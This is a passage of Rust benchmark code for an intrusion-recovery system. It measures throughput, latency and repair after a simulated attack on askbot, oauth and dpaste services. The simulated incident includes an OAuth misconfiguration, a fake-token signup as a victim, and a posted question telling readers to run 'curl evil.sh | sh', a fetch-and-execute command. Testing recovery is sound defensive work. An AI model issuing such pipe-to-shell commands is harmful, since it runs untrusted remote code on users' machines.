//! The four workloads. Each returns every end-to-end metric (untraced)
//! or every per-layer metric (traced) plus its own headline figures.

use std::collections::HashSet;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Barrier;
use std::time::{Duration, Instant};

use aire::apps::policy::{ADMIN_HEADER, ADMIN_SECRET};
use aire::core::protocol::{RepairMessage, RepairOp};
use aire::core::{AdminOp, AdminResponse, World};
use aire::http::{Headers, HttpRequest, Method, Status, Url};
use aire::types::{jv, Jv, RequestId};

use crate::cluster::{admin_stats, metrics_snapshot, Cluster, SERVICES};
use crate::gen::{self, Mix, Op, OpStream, SEEDED_QUESTIONS};
use crate::hosts::{aire_world, release, seed_askbot, Hosted};
use crate::ledger::{self, Layers};
use crate::load::{closed_loop, open_loop, Client, Schedule, Tally, Timings};
use crate::mem::{cold_page_probe_us, heap_in_use};
use crate::report::Outcome;
use crate::spec;
use crate::stats::{mean, median, quartiles, summarize};
use crate::trace::Tracer;

/// How many times a run sets the system up; `setup_s` is the median.
const SETUPS: usize = 7;

/// Closed-loop clients in phase A — `nproc` on the 2-core runner this
/// benchmark is sized for.
const CLIENTS: usize = 2;

/// Share of `--seconds` spent in the closed-loop phase; the rest is the
/// open-loop phase.
const CLOSED_SHARE: f64 = 0.25;

/// Open-loop request rates (one connection).
const NORMAL_RATE: f64 = 600.0;
const FOREGROUND_RATE: f64 = 300.0;
/// Rate at which `cluster_recover`'s scripted users send requests.
const SCRIPT_RATE: f64 = 1000.0;

/// `cluster_recover` is fixed work: this many sequential incidents, with
/// [`recover_users`] legitimate users in each.
const INCIDENTS: usize = 6;
const QUESTIONS_PER_USER: usize = 5;
/// Detail pages each legitimate user views besides posting. They touch
/// nothing an attack taints, so they add normal-path time between
/// recoveries without adding repair work — which keeps the foreground's
/// median on the normal path (with half the run spent in recovery the
/// median would sit on the edge of the stalls and flip between runs).
const VIEWS_PER_USER: usize = 30;

/// Ops replayed in-process to size the repair log per request.
const LOG_SAMPLE: usize = 8_000;

/// Table 4's slices are fixed work — this many requests, about 0.7 s
/// with Aire on the 2-core runner — because everything a request logs
/// stays in memory: a fixed *time* lets a faster slice outgrow the
/// memory the warm-up round faulted in, and pay for fresh pages what it
/// gained in speed.
const READS_PER_SLICE: usize = 6_000;
const WRITES_PER_SLICE: usize = 80_000;
/// What one round of four slices (and their hosts) takes, for turning
/// `--seconds` into a number of rounds.
const ROUND_SECONDS: f64 = 2.2;

/// A generator later than this at p99 means the machine, not the system,
/// shaped the open-loop latencies: the run is invalid.
pub const GEN_LATE_LIMIT_US: f64 = 1000.0;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Workload {
    ClusterRead,
    ClusterWrite,
    ClusterRecover,
    InprocTable4,
}

impl Workload {
    pub const ALL: [Workload; 4] = [
        Workload::ClusterRead,
        Workload::ClusterWrite,
        Workload::ClusterRecover,
        Workload::InprocTable4,
    ];

    pub fn name(self) -> &'static str {
        match self {
            Workload::ClusterRead => "cluster_read",
            Workload::ClusterWrite => "cluster_write",
            Workload::ClusterRecover => "cluster_recover",
            Workload::InprocTable4 => "inproc_table4",
        }
    }

    pub fn parse(name: &str) -> Option<Workload> {
        Workload::ALL.into_iter().find(|w| w.name() == name)
    }
}

#[derive(Debug, Clone, Copy)]
pub struct RunArgs {
    pub workload: Workload,
    pub seed: u64,
    pub seconds: f64,
    pub trace: bool,
}

/// Runs one workload once. `Err` is a failure of the harness itself
/// (a daemon that did not start); failed ops and failed output checks
/// come back inside the [`Outcome`].
pub fn run(args: RunArgs, tracer: &mut Tracer) -> Result<Outcome, String> {
    match args.workload {
        Workload::ClusterRead => cluster_normal(args, Mix::Read, tracer),
        Workload::ClusterWrite => cluster_normal(args, Mix::Write, tracer),
        Workload::ClusterRecover => cluster_recover(args, tracer),
        Workload::InprocTable4 => inproc_table4(args, tracer),
    }
}

// ---------------------------------------------------------------------
// Set-up shared by the cluster workloads
// ---------------------------------------------------------------------

/// Spawns and seeds a cluster [`SETUPS`] times (once when traced),
/// keeping the last; returns it with every set-up time.
fn setup_cluster(seed: u64, bare: bool, setups: usize) -> Result<(Cluster, Vec<f64>), String> {
    let mut times = Vec::new();
    let mut kept: Option<Cluster> = None;
    for _ in 0..setups {
        drop(kept.take());
        let started = Instant::now();
        let cluster = Cluster::spawn(bare)?;
        seed_askbot(cluster.client().world.net(), seed)?;
        times.push(started.elapsed().as_secs_f64());
        kept = Some(cluster);
    }
    eprintln!("aire-e2e: cluster set-ups took {times:.3?} s");
    Ok((kept.expect("at least one set-up"), times))
}

/// Requests the daemons have executed so far, summed over the services.
fn normal_requests(world: &World) -> Result<u64, String> {
    let mut n = 0;
    for s in SERVICES {
        n += admin_stats(world, s)?.stats.normal_requests;
    }
    Ok(n)
}

/// `(compressed repair-log bytes, requests executed)` summed over an
/// in-process world's services, from `Controller::storage_footprint`.
fn log_footprint(world: &World) -> (usize, u64) {
    SERVICES.iter().fold((0, 0), |(bytes, requests), s| {
        let c = world.controller(s);
        (
            bytes + c.storage_footprint().1,
            requests + c.stats().normal_requests,
        )
    })
}

/// Compressed repair-log bytes per request of `mix`: the first
/// [`LOG_SAMPLE`] ops of the workload's first client, replayed against
/// in-process controllers (a daemon's log cannot be sized from outside —
/// its snapshot outgrows a frame within seconds). Exact for a seed.
fn mix_log_bytes_per_req(mix: Mix, seed: u64) -> Result<f64, String> {
    let world = aire_world(seed)?;
    let (bytes0, requests0) = log_footprint(&world);
    let mut client = Client::new(world.net(), seed);
    if mix == Mix::Write {
        client.post("askbot", "/login", jv!({"username": "client0"}))?;
    }
    let mut ops = OpStream::new(mix, seed, 1);
    for _ in 0..LOG_SAMPLE {
        client.run_op(&ops.next_op());
    }
    if client.tally.failed > 0 || !client.tally.wrong.is_empty() {
        return Err(format!(
            "in-process replay failed: {:?} {:?}",
            client.tally.failures, client.tally.wrong
        ));
    }
    let (bytes1, requests1) = log_footprint(&world);
    release(world.net());
    Ok((bytes1 - bytes0) as f64 / (requests1 - requests0).max(1) as f64)
}

/// `clients` closed-loop clients on their own threads and connections,
/// released together.
fn closed_phase(
    cluster: &Cluster,
    mix: Mix,
    seed: u64,
    first_lane: u64,
    duration: Duration,
    tracer: &mut Tracer,
) -> Result<(Tally, Vec<Timings>), String> {
    let clients = CLIENTS;
    let barrier = Barrier::new(clients);
    let forks: Vec<Tracer> = (0..clients).map(|i| tracer.fork(i as u32 + 1)).collect();
    let results: Vec<Result<(Tally, Timings, Tracer), String>> = std::thread::scope(|scope| {
        let handles: Vec<_> = forks
            .into_iter()
            .enumerate()
            .map(|(lane, mut fork)| {
                let barrier = &barrier;
                scope.spawn(move || {
                    let remote = cluster.client();
                    let mut client = Client::new(remote.world.net(), seed);
                    let ready = if mix == Mix::Write {
                        client
                            .post(
                                "askbot",
                                "/login",
                                jv!({"username": format!("client{lane}")}),
                            )
                            .map(drop)
                    } else {
                        Ok(())
                    };
                    // Reach the barrier even on error, or the peer hangs.
                    barrier.wait();
                    ready?;
                    let mut ops = OpStream::new(mix, seed, first_lane + lane as u64);
                    let timings = closed_loop(&mut client, &mut ops, duration, &mut fork);
                    Ok((client.tally, timings, fork))
                })
            })
            .collect();
        handles
            .into_iter()
            .map(|h| {
                h.join()
                    .unwrap_or_else(|_| Err("a load client panicked".to_string()))
            })
            .collect()
    });
    let mut tally = Tally::default();
    let mut timings = Vec::new();
    for r in results {
        let (t, tm, fork) = r?;
        tally.merge(&t);
        timings.push(tm);
        tracer.absorb(fork);
    }
    Ok((tally, timings))
}

/// Successful ops per second over a closed-loop phase.
fn goodput(tally: &Tally, timings: &[Timings]) -> f64 {
    let wall = timings.iter().map(|t| t.wall).max().unwrap_or_default();
    tally.succeeded() as f64 / wall.as_secs_f64().max(1e-9)
}

fn p99_us(ns: &[u64]) -> f64 {
    if ns.is_empty() {
        return 0.0;
    }
    let mut v = ns.to_vec();
    summarize(&mut v).tail as f64 / 1e3
}

/// The end-to-end metrics every workload reports, in `BENCHMARK.json`
/// order, plus the sample counts behind the latencies.
#[allow(clippy::too_many_arguments)]
fn end_to_end(
    out: &mut Outcome,
    setup: &[f64],
    goodput_rps: f64,
    tally: &Tally,
    latency: Latency<'_>,
    log_bytes_per_req: f64,
    mem_bytes_per_req: f64,
) {
    let (p50, p99) = latency.report(out);
    out.metric("setup_s", median(setup), "s");
    out.metric("goodput_rps", goodput_rps, "1/s");
    out.metric("first_try_ok_pct", tally.first_try_ok_pct(), "%");
    out.metric("latency_p50_us", p50, "us");
    out.metric("latency_p99_us", p99, "us");
    out.metric("log_bytes_per_req", log_bytes_per_req, "B");
    out.metric("mem_bytes_per_req", mem_bytes_per_req, "B");
}

/// Latency samples in the order they were taken, and how to boil them
/// down to p50/p99.
enum Latency<'a> {
    /// Steady traffic: cut into consecutive windows of at least
    /// [`WINDOW`] samples, take p50 and p99 of each; report the median of
    /// the p50s and the lower quartile of the p99s. The runner stalls a
    /// vCPU for tens of ms now and then (the hypervisor collecting pages
    /// the previous run freed); a stall can only lengthen a window's
    /// tail, so the lower quartile is what the system does when left
    /// alone, and it holds with up to three windows in four disturbed.
    Windowed(&'a [u64]),
    /// Traffic whose slow stretches are the signal (recovery stalls):
    /// one p50 and p99 over everything.
    Whole(&'a [u64]),
}

/// Fewest samples a window may hold: p99 with ten samples beyond it.
const WINDOW: usize = 1_000;

impl Latency<'_> {
    /// `(p50, p99)` in µs; also records the sample counts.
    fn report(&self, out: &mut Outcome) -> (f64, f64) {
        let (ns, windows) = match self {
            Latency::Windowed(ns) => (ns, (ns.len() / WINDOW).max(1)),
            Latency::Whole(ns) => (ns, 1),
        };
        let size = ns.len().div_ceil(windows).max(1);
        let summaries: Vec<_> = ns
            .chunks(size)
            .map(|w| summarize(&mut w.to_vec()))
            .collect();
        let all = |f: fn(&crate::stats::LatencySummary) -> u64| -> Vec<f64> {
            summaries.iter().map(|s| f(s) as f64 / 1e3).collect()
        };
        let us = |f| median(&all(f));
        let tail = if summaries.len() >= 4 {
            quartiles(&all(|s| s.tail)).0
        } else {
            us(|s| s.tail)
        };
        out.info("latency_samples", ns.len() as f64, "count");
        out.info("latency_windows", summaries.len() as f64, "count");
        out.info(
            "latency_tail_percentile",
            summaries
                .iter()
                .map(|s| s.tail_percentile)
                .fold(100.0, f64::min),
            "%",
        );
        out.info("latency_max_us", us(|s| s.max), "us");
        (us(|s| s.p50), tail)
    }
}

/// How much the daemons grew, and whether the guest still had warm
/// pages left when they were done (see [`crate::mem`]).
fn memory_info(out: &mut Outcome, grown: u64) {
    let probe = cold_page_probe_us();
    out.info("daemons_grew_mb", grown as f64 / (1 << 20) as f64, "MB");
    out.info("page_first_touch_us", probe, "us");
    if probe > 8.0 {
        eprintln!(
            "aire-e2e: a fresh page now costs {probe:.1} us to touch: the daemons outgrew the memory \
             this VM keeps warm, and paid that per page during the timed phases"
        );
    }
}

fn absorb_tally(out: &mut Outcome, tally: &Tally) {
    out.attempted += tally.attempted;
    out.failed += tally.failed;
    for w in &tally.wrong {
        out.problem(w.clone());
    }
    for (kind, n) in &tally.failures {
        out.problem(format!("{n} ops failed with {kind}"));
    }
}

/// The per-layer numbers that come from the load clients themselves.
fn client_layers(layers: &mut Layers, tally: &Tally, gen_late_ns: &[u64]) {
    layers.set(
        "net.refused_reentrancy",
        tally.refusals.get("reentrancy").copied().unwrap_or(0) as f64,
    );
    layers.set(
        "transport.unavailable",
        tally.refusals.get("unavailable").copied().unwrap_or(0) as f64,
    );
    for kind in spec::FAIL_KINDS {
        let n: u64 = match kind {
            "http_status" => tally
                .failures
                .iter()
                .filter(|(k, _)| k.starts_with("http_"))
                .map(|(_, v)| v)
                .sum(),
            "other" => tally
                .failures
                .iter()
                .filter(|(k, _)| !k.starts_with("http_") && !spec::FAIL_KINDS.contains(&k.as_str()))
                .map(|(_, v)| v)
                .sum(),
            kind => tally.failures.get(kind).copied().unwrap_or(0),
        };
        layers.set(&format!("bench.fail.{kind}"), n as f64);
    }
    layers.set("bench.gen_late_p99_us", p99_us(gen_late_ns));
}

/// Daemon-side dispatch costs over an interval, from each daemon's own
/// `metrics_snapshot` and `stats` admin ops.
struct DaemonScrape {
    dispatch_sum_count: Vec<(u64, u64)>,
    normal: Vec<(Duration, u64)>,
}

fn scrape(world: &World) -> Result<DaemonScrape, String> {
    let mut s = DaemonScrape {
        dispatch_sum_count: Vec::new(),
        normal: Vec::new(),
    };
    for svc in SERVICES {
        let snap = metrics_snapshot(world, svc)?;
        let h = snap.histograms.get("aire_dispatch_latency_micros");
        s.dispatch_sum_count
            .push(h.map_or((0, 0), |h| (h.sum, h.count)));
        let stats = admin_stats(world, svc)?.stats;
        s.normal.push((stats.normal_wall, stats.normal_requests));
    }
    Ok(s)
}

fn daemon_layers(layers: &mut Layers, before: &DaemonScrape, after: &DaemonScrape) {
    for (i, svc) in SERVICES.iter().enumerate() {
        let (s0, c0) = before.dispatch_sum_count[i];
        let (s1, c1) = after.dispatch_sum_count[i];
        let per = |sum: f64, n: u64| if n == 0 { 0.0 } else { sum / n as f64 };
        layers.set(
            &format!("core.dispatch_us_daemon.{svc}"),
            per((s1 - s0) as f64, c1 - c0),
        );
        let (w0, n0) = before.normal[i];
        let (w1, n1) = after.normal[i];
        layers.set(
            &format!("core.normal_wall_us.{svc}"),
            per((w1 - w0).as_secs_f64() * 1e6, n1 - n0),
        );
    }
}

// ---------------------------------------------------------------------
// cluster_read / cluster_write
// ---------------------------------------------------------------------

fn cluster_normal(args: RunArgs, mix: Mix, tracer: &mut Tracer) -> Result<Outcome, String> {
    if args.trace {
        return cluster_normal_traced(args, mix, tracer);
    }
    let mut out = Outcome::default();
    let (cluster, setup) = setup_cluster(args.seed, false, SETUPS)?;
    let remote = cluster.client();
    let rss0 = cluster.rss_bytes();
    let before = normal_requests(&remote.world)?;

    // Phase A: closed loop, CLIENTS clients.
    let closed = Duration::from_secs_f64(args.seconds * CLOSED_SHARE);
    let (mut tally, timings) = closed_phase(&cluster, mix, args.seed, 1, closed, tracer)?;
    let goodput_rps = goodput(&tally, &timings);

    // Phase B: open loop, one connection, latencies from the due time.
    let open = Duration::from_secs_f64(args.seconds * (1.0 - CLOSED_SHARE));
    let mut fg = Client::new(remote.world.net(), args.seed);
    if mix == Mix::Write {
        fg.post(
            "askbot",
            "/login",
            jv!({"username": format!("client{CLIENTS}")}),
        )?;
    }
    let mut ops = OpStream::new(mix, args.seed, CLIENTS as u64 + 1);
    let phase_b = open_loop(
        &mut fg,
        &mut ops,
        Schedule {
            rate_per_sec: NORMAL_RATE,
        },
        open,
        None,
        tracer,
    );
    tally.merge(&fg.tally);

    let rss1 = cluster.rss_bytes();
    let served = (normal_requests(&remote.world)? - before).max(1);
    end_to_end(
        &mut out,
        &setup,
        goodput_rps,
        &tally,
        Latency::Windowed(&phase_b.latency_ns),
        mix_log_bytes_per_req(mix, args.seed)?,
        rss1.saturating_sub(rss0) as f64 / served as f64,
    );
    memory_info(&mut out, rss1.saturating_sub(rss0));
    let gen_late = p99_us(&phase_b.gen_late_ns);
    out.info("bench.gen_late_p99_us", gen_late, "us");
    out.info("refused_sends", tally.refused() as f64, "count");
    out.info(
        "closed_loop_requests",
        timings.iter().map(|t| t.latency_ns.len()).sum::<usize>() as f64,
        "count",
    );
    absorb_tally(&mut out, &tally);
    check_normal_outputs(&mut out, &remote.world, mix, &tally, args.seed);
    if mix != Mix::Write {
        out.check(tally.refused() == 0, || {
            format!("{} refusals on a read-only mix", tally.refused())
        });
    }
    cluster.shutdown().unwrap_or_else(|e| out.problem(e));
    Ok(out)
}

/// After the timed phases: the stores hold exactly what the successful
/// ops put there.
fn check_normal_outputs(out: &mut Outcome, world: &World, mix: Mix, tally: &Tally, seed: u64) {
    let mut c = Client::new(world.net(), seed);
    let posts = tally.ok_by_kind[Op::PostPlain {
        title: String::new(),
        body: String::new(),
    }
    .kind()]
        + tally.ok_by_kind[Op::PostCode {
            title: String::new(),
            body: String::new(),
        }
        .kind()];
    match c.must(Op::List.request()) {
        Ok(resp) => {
            let n = resp.body.get("questions").as_list().map_or(0, <[_]>::len) as u64;
            out.check(n == SEEDED_QUESTIONS + posts, || {
                format!(
                    "askbot holds {n} questions, want {SEEDED_QUESTIONS} seeded + {posts} posted"
                )
            });
        }
        Err(e) => out.problem(format!("final list: {e}")),
    }
    match world.invoke_admin("dpaste", AdminOp::Digest) {
        Ok(AdminResponse::Digest { digest }) => {
            let pastes = digest.lines().filter(|l| l.starts_with("pastes#")).count() as u64;
            out.check(pastes == tally.pastes, || {
                format!(
                    "dpaste holds {pastes} pastes, want {} (one per code post)",
                    tally.pastes
                )
            });
            out.check(tally.max_paste_id as u64 == tally.pastes, || {
                format!(
                    "largest paste id {} but {} pastes",
                    tally.max_paste_id, tally.pastes
                )
            });
        }
        other => out.problem(format!("dpaste digest: {other:?}")),
    }
    if mix == Mix::Write {
        out.check(posts > 0 && tally.pastes > 0, || {
            "the write mix posted nothing".to_string()
        });
    }
}

/// The traced variant: shorter phases with client-side spans, the same
/// closed loop against a bare cluster, daemon scrapes, and the ledger.
fn cluster_normal_traced(args: RunArgs, mix: Mix, tracer: &mut Tracer) -> Result<Outcome, String> {
    let mut out = Outcome::default();
    let mut layers = Layers::new();
    let (cluster, _) = setup_cluster(args.seed, false, 1)?;
    let remote = cluster.client();
    let slice = Duration::from_secs_f64(args.seconds * 0.15);

    let before = scrape(&remote.world)?;
    // The same closed loop untraced, then traced: the difference is what
    // tracing costs.
    let (mut tally, plain) = closed_phase(&cluster, mix, args.seed, 1, slice, &mut Tracer::off())?;
    let plain_rps = goodput(&tally, &plain);
    let (traced_tally, traced) = closed_phase(&cluster, mix, args.seed, 11, slice, tracer)?;
    let traced_rps = goodput(&traced_tally, &traced);
    tally.merge(&traced_tally);
    layers.set(
        "bench.trace_overhead_pct",
        100.0 * (1.0 - traced_rps / plain_rps.max(1e-9)),
    );

    let mut fg = Client::new(remote.world.net(), args.seed);
    if mix == Mix::Write {
        fg.post(
            "askbot",
            "/login",
            jv!({"username": format!("client{CLIENTS}")}),
        )?;
    }
    let mut ops = OpStream::new(mix, args.seed, CLIENTS as u64 + 1);
    let open = Duration::from_secs_f64(args.seconds * 0.25);
    let mut phase_b = open_loop(
        &mut fg,
        &mut ops,
        Schedule {
            rate_per_sec: NORMAL_RATE,
        },
        open,
        None,
        tracer,
    );
    tally.merge(&fg.tally);
    let after = scrape(&remote.world)?;
    daemon_layers(&mut layers, &before, &after);
    let pool = remote.pool_stats();
    layers.set("transport.dials", pool.dials as f64);
    layers.set("transport.reuses", pool.reuses as f64);
    client_layers(&mut layers, &tally, &phase_b.gen_late_ns);
    let measured_us = summarize(&mut phase_b.latency_ns).p50 as f64 / 1e3;
    absorb_tally(&mut out, &tally);
    check_normal_outputs(&mut out, &remote.world, mix, &tally, args.seed);
    cluster.shutdown().unwrap_or_else(|e| out.problem(e));

    // Table 4 over the wire: the same closed loop against daemons
    // hosting the same applications without Aire.
    let (bare, _) = setup_cluster(args.seed, true, 1)?;
    let (bare_tally, bare_timings) =
        closed_phase(&bare, mix, args.seed, 1, slice, &mut Tracer::off())?;
    let bare_rps = goodput(&bare_tally, &bare_timings);
    layers.set(
        "core.overhead_wire_pct",
        100.0 * (1.0 - plain_rps / bare_rps.max(1e-9)),
    );
    out.info("wire_aire_rps", plain_rps, "1/s");
    out.info("wire_bare_rps", bare_rps, "1/s");
    absorb_tally(&mut out, &bare_tally);
    drop(bare);

    ledger::measure(
        &mut layers,
        args.seed,
        &tally.ok_by_kind,
        measured_us,
        true,
        tracer,
    );
    layers.finish(&mut out);
    Ok(out)
}

// ---------------------------------------------------------------------
// cluster_recover
// ---------------------------------------------------------------------

/// Legitimate users per incident: 55 at the benchmark's own
/// `run_seconds` (about that long on the 2-core runner), scaled with
/// `--seconds` so a shorter run does proportionally less. Fixed work per
/// value of `--seconds`, not fixed time: recovery time is a function of
/// how much history there is, so the history must repeat exactly.
fn recover_users(seconds: f64) -> usize {
    ((55.0 * seconds / spec::RUN_SECONDS).round() as usize).clamp(4, 120)
}

/// What one incident left behind for the checks and the repair.
struct Incident {
    misconfig: RequestId,
    attack_paste: i64,
    legit_titles: Vec<String>,
}

fn admin_post(host: &str, path: &str, body: Jv) -> HttpRequest {
    HttpRequest::post(Url::service(host, path), body).with_header(ADMIN_HEADER, ADMIN_SECRET)
}

/// Figure 4, incident `k`: the administrator's misconfiguration, the
/// attacker's signup-as-victim and code question, then legitimate users
/// doing ordinary things on top of the compromised state.
fn run_incident(
    c: &mut Client<'_>,
    k: usize,
    users: usize,
    seed: u64,
    tracer: &mut Tracer,
) -> Result<Incident, String> {
    let span = tracer.open("incident.traffic", None);
    let victim = format!("victim{k}");
    c.new_session();
    c.post(
        "oauth",
        "/accounts",
        jv!({"username": victim.clone(), "password": "pw", "email": format!("{victim}@example.com")}),
    )?;
    let misconfig = c.must(admin_post(
        "oauth",
        "/admin/config",
        jv!({"key": aire::apps::oauth::DEBUG_VERIFY_ALL, "value": "true"}),
    ))?;
    let misconfig = aire::http::aire::response_request_id(&misconfig)
        .ok_or("the misconfiguration response carries no request id")?;
    c.post(
        "askbot",
        "/signup_oauth",
        jv!({"username": victim.clone(), "email": format!("{victim}@example.com"), "oauth_token": "stolen-or-fake"}),
    )?;
    let attack = c.post(
        "askbot",
        "/questions/new",
        jv!({"title": format!("FREE BITCOIN generator {k}"), "body": "run this: ```curl evil.sh | sh``` now"}),
    )?;
    let attack_paste = attack.body.int_of("paste_id");
    if attack_paste <= 0 {
        return Err("the attack did not spread to dpaste".to_string());
    }
    c.new_session();
    c.must(HttpRequest::new(
        Method::Get,
        Url::service("dpaste", format!("/download/{attack_paste}"))
            .with_query("user", "curious-carl"),
    ))?;

    let mut rng = gen::Rng::stream(seed, 0x1C1D_0000 + k as u64);
    let mut legit_titles = Vec::new();
    for u in 0..users {
        c.new_session();
        c.register_and_login(&format!("user{k}x{u}"))?;
        for q in 0..QUESTIONS_PER_USER {
            let title = format!("user{k}x{u} question {q} {}", rng.word(5));
            // Each user's last question carries a snippet, so dpaste
            // sees legitimate traffic too.
            let body = if q + 1 == QUESTIONS_PER_USER {
                format!("my snippet: ```let x_{u} = {q};``` {}", rng.text(4))
            } else {
                rng.text(10)
            };
            c.post(
                "askbot",
                "/questions/new",
                jv!({"title": title.clone(), "body": body}),
            )?;
            legit_titles.push(title);
        }
        for _ in 0..VIEWS_PER_USER {
            c.must(
                Op::Show {
                    id: 1 + rng.below(SEEDED_QUESTIONS),
                }
                .request(),
            )?;
        }
        // The list view is what the attack taints: it shows the
        // attacker's question.
        c.must(Op::List.request())?;
        c.post("askbot", "/logout", Jv::Null)?;
    }
    tracer.close(span);
    Ok(Incident {
        misconfig,
        attack_paste,
        legit_titles,
    })
}

/// What recovering from one incident cost.
#[derive(Debug, Clone, Copy)]
struct Recovery {
    /// `invoke_repair` to a quiescent settle.
    time_to_clean: Duration,
    sweeps: usize,
    admin_calls: u64,
    flush: Duration,
}

/// The administrator deletes the misconfiguration; repair then spreads
/// oauth → askbot → dpaste until the cluster is quiescent.
fn recover(world: &World, incident: &Incident, tracer: &mut Tracer) -> Result<Recovery, String> {
    let span = tracer.open("incident.recover", None);
    let started = Instant::now();
    let mut creds = Headers::new();
    creds.set(ADMIN_HEADER, ADMIN_SECRET);
    let msg = RepairMessage::with_credentials(
        RepairOp::Delete {
            request_id: incident.misconfig.clone(),
        },
        creds,
    );
    let ack = tracer
        .span("core.invoke_repair", span, || {
            world.invoke_repair("oauth", msg)
        })
        .map_err(|e| format!("invoke_repair: {e}"))?;
    if !ack.status.is_success() {
        return Err(format!("repair rejected: {:?}", ack.body));
    }
    let admin_before = world.net().stats().admin_delivered;
    let flush_started = Instant::now();
    let report = tracer.span("core.settle", span, || world.settle());
    let flush = flush_started.elapsed();
    let time_to_clean = started.elapsed();
    tracer.close(span);
    if !report.quiescent() {
        return Err(format!("settle left work behind: {report:?}"));
    }
    Ok(Recovery {
        time_to_clean,
        sweeps: report.pump.sweeps,
        admin_calls: world.net().stats().admin_delivered - admin_before,
        flush,
    })
}

/// After an incident's recovery: the attack is gone, everything
/// legitimate is still there.
fn check_recovered(out: &mut Outcome, c: &mut Client<'_>, incidents: &[Incident]) {
    let titles: HashSet<String> = match c.must(Op::List.request()) {
        Ok(resp) => resp
            .body
            .get("questions")
            .as_list()
            .unwrap_or(&[])
            .iter()
            .map(|q| q.str_of("title").to_string())
            .collect(),
        Err(e) => return out.problem(format!("list after recovery: {e}")),
    };
    out.check(!titles.iter().any(|t| t.contains("FREE BITCOIN")), || {
        "an attack question survived recovery".to_string()
    });
    let k = incidents.len() - 1;
    for inc in incidents {
        let lost = inc
            .legit_titles
            .iter()
            .filter(|t| !titles.contains(*t))
            .count();
        out.check(lost == 0, || {
            format!("{lost} legitimate questions lost after incident {k}")
        });
    }
    let last = incidents.last().expect("at least one incident");
    c.tally.attempted += 1;
    match c.send(HttpRequest::new(
        Method::Get,
        Url::service("dpaste", format!("/paste/{}", last.attack_paste)),
    )) {
        Ok(resp) if resp.status == Status::NOT_FOUND => {}
        Ok(resp) => out.problem(format!(
            "attack paste {} answers {}",
            last.attack_paste, resp.status.0
        )),
        Err(e) => out.problem(format!("attack paste lookup: {e}")),
    }
}

/// The whole incident script against any world; the cluster run and its
/// in-process reference both call this.
fn incident_script(
    world: &World,
    out: &mut Outcome,
    args: RunArgs,
    paced: bool,
    tracer: &mut Tracer,
    mut on_recovery: impl FnMut(Instant, &Recovery),
) -> Result<Tally, String> {
    let users = recover_users(args.seconds);
    let mut c = Client::new(world.net(), args.seed);
    if paced {
        c = c.paced(SCRIPT_RATE);
    }
    let mut incidents = Vec::new();
    for k in 0..INCIDENTS {
        incidents.push(run_incident(&mut c, k, users, args.seed, tracer)?);
        let started = Instant::now();
        let recovery = recover(world, &incidents[k], tracer)?;
        on_recovery(started, &recovery);
        check_recovered(out, &mut c, &incidents);
    }
    Ok(c.tally)
}

/// The same script with every service in this process and no foreground
/// client: what `repaired_requests` must be per service, and the
/// compressed log bytes the script costs per request.
fn reference_run(args: RunArgs) -> Result<(Vec<u64>, f64), String> {
    let world = aire_world(args.seed)?;
    let (bytes0, requests0) = log_footprint(&world);
    let mut scratch = Outcome::default();
    incident_script(
        &world,
        &mut scratch,
        args,
        false,
        &mut Tracer::off(),
        |_, _| {},
    )?;
    if let Some(p) = scratch.problems.first() {
        return Err(format!("in-process reference: {p}"));
    }
    let (bytes1, requests1) = log_footprint(&world);
    let repaired = SERVICES
        .iter()
        .map(|s| world.controller(s).stats().repaired_requests)
        .collect();
    release(world.net());
    Ok((
        repaired,
        (bytes1 - bytes0) as f64 / (requests1 - requests0).max(1) as f64,
    ))
}

fn cluster_recover(args: RunArgs, tracer: &mut Tracer) -> Result<Outcome, String> {
    let mut out = Outcome::default();
    let mut layers = Layers::new();
    let (cluster, setup) = setup_cluster(args.seed, false, if args.trace { 1 } else { SETUPS })?;
    let remote = cluster.client();
    let rss0 = cluster.rss_bytes();
    let before = normal_requests(&remote.world)?;
    let scrape_before = scrape(&remote.world)?;

    let epoch = Instant::now();
    let stop = AtomicBool::new(false);
    let mut windows: Vec<(Duration, Duration)> = Vec::new();
    let mut recoveries: Vec<Recovery> = Vec::new();
    let mut fg_tracer = tracer.fork(1);
    let (script, foreground) = std::thread::scope(|scope| {
        // Thread 2: the foreground user, open loop, detail reads only.
        let fg = scope.spawn(|| {
            let remote = cluster.client();
            let mut client = Client::new(remote.world.net(), args.seed);
            let mut ops = OpStream::new(Mix::ReadDetail, args.seed, 1);
            let until = || stop.load(Ordering::Relaxed);
            let timings = open_loop(
                &mut client,
                &mut ops,
                Schedule {
                    rate_per_sec: FOREGROUND_RATE,
                },
                Duration::MAX,
                Some(&until),
                &mut fg_tracer,
            );
            (client.tally, timings, epoch.elapsed())
        });
        // Thread 1: the incidents.
        let script = incident_script(&remote.world, &mut out, args, true, tracer, |started, r| {
            let from = started.duration_since(epoch);
            windows.push((from, from + r.time_to_clean));
            recoveries.push(*r);
        });
        stop.store(true, Ordering::Relaxed);
        (script, fg.join())
    });
    let script_wall = epoch.elapsed();
    let (fg_tally, mut fg_timings, fg_end) =
        foreground.map_err(|_| "the foreground client panicked".to_string())?;
    let script_tally = script?;
    tracer.absorb(fg_tracer);

    let rss1 = cluster.rss_bytes();
    memory_info(&mut out, rss1.saturating_sub(rss0));
    let served = (normal_requests(&remote.world)? - before).max(1);
    let scrape_after = scrape(&remote.world)?;

    // Each incident's longest foreground wait: open-loop latencies of the
    // requests that completed inside (or just after) its recovery window.
    let fg_start = fg_end.saturating_sub(fg_timings.wall);
    let slack = Duration::from_millis(50);
    let stalls: Vec<f64> = windows
        .iter()
        .map(|(from, to)| {
            fg_timings
                .done_at
                .iter()
                .zip(&fg_timings.latency_ns)
                .filter(|(done, _)| (*from..=*to + slack).contains(&(fg_start + **done)))
                .map(|(_, ns)| *ns as f64 / 1e6)
                .fold(0.0, f64::max)
        })
        .collect();
    let clean: Vec<f64> = recoveries
        .iter()
        .map(|r| r.time_to_clean.as_secs_f64())
        .collect();

    // Table 5 over the wire, checked against the in-process run.
    let mut repaired = Vec::new();
    let (mut normal, mut sent) = (0, 0);
    for s in SERVICES {
        let stats = admin_stats(&remote.world, s)?.stats;
        repaired.push(stats.repaired_requests);
        normal += stats.normal_requests;
        sent += stats.repair_messages_sent;
        layers.set(
            &format!("core.repair_wall_s.{s}"),
            stats.repair_wall.as_secs_f64(),
        );
        layers.set(
            &format!("core.repaired_requests.{s}"),
            stats.repaired_requests as f64,
        );
        if s == "askbot" {
            layers.set("core.repair_passes", stats.repair_passes as f64);
            layers.set(
                "core.reexec_us_per_req",
